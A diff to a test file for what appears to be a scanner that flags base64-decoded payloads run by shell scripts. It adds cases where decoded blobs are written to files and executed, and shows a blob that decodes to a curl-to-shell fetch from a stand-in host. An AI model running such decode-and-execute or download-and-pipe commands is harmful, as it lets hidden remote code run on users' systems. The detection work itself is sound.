@@ -669,8 +669,16 @@ describe('obfuscated-code in shell scripts: decoded text piped into an interpret
     expect(ids('install.sh', ['echo "aWYgW1sgIiRPU1RZUEUiID09ICJsaW51eC1nbnUiIF1dOyB0aGVuIGN1cmwgLXNTZiBodHRwczovL2V4YW1wbGUuaW52YWxpZC94IHwgc2g7IGZp" | base64 -d | bash'])).toEqual(['high:11']);
     expect(ids('scripts/setup.sh', ['P=$(printf %s "$BLOB" | base64 --decode)', 'echo "$P" | sudo python3'])).toEqual(['high:12']);
   });
+  it('reports a blob decoded to a file that the hunk then runs, with a shell, as a command or after chmod', () => {
+    expect(ids('install.sh', ['echo "aWYgW1sgIiRPU1RZUEUiID09ICJsaW51eC1nbnUiIF1dOyB0aGVu" | base64 -d > /tmp/run.sh && bash /tmp/run.sh'])).toEqual(['high:11']);
+    expect(ids('install.sh', ['printf %s "$BLOB" | base64 --decode > "$RUNNER_TEMP/x"', 'chmod +x "$RUNNER_TEMP/x"', '"$RUNNER_TEMP/x" --quiet'])).toEqual(['high:12']);
+    expect(ids('scripts/setup.sh', ['base64 -d payload.b64 > ./helper', 'sh ./helper'])).toEqual(['high:12']);
+    expect(ids('scripts/setup.sh', ['base64 -d payload.b64 > helper.py', 'python3 helper.py'])).toEqual(['high:12']);
+  });
   it('is quiet on a secret decoded into a file or an archive unpacked, and on a download piped to a shell without a decode', () => {
     expect(ids('scripts/ci-keys.sh', ['echo "$SIGNING_KEY" | base64 -d > signing.key', 'base64 -d < bundle.b64 | tar xz -C vendor'])).toEqual([]);
+    // A keystore decoded to a file and given to a tool that reads it runs nothing of it.
+    expect(ids('scripts/sign.sh', ['echo "$KEYSTORE" | base64 -d > release.jks', 'jarsigner -keystore release.jks app.apk key', 'gpg --import signing.key'])).toEqual([]);
     expect(ids('scripts/install-tools.sh', ['curl -fsSL https://get.example.dev/install.sh | bash'])).toEqual([]);
   });
 });
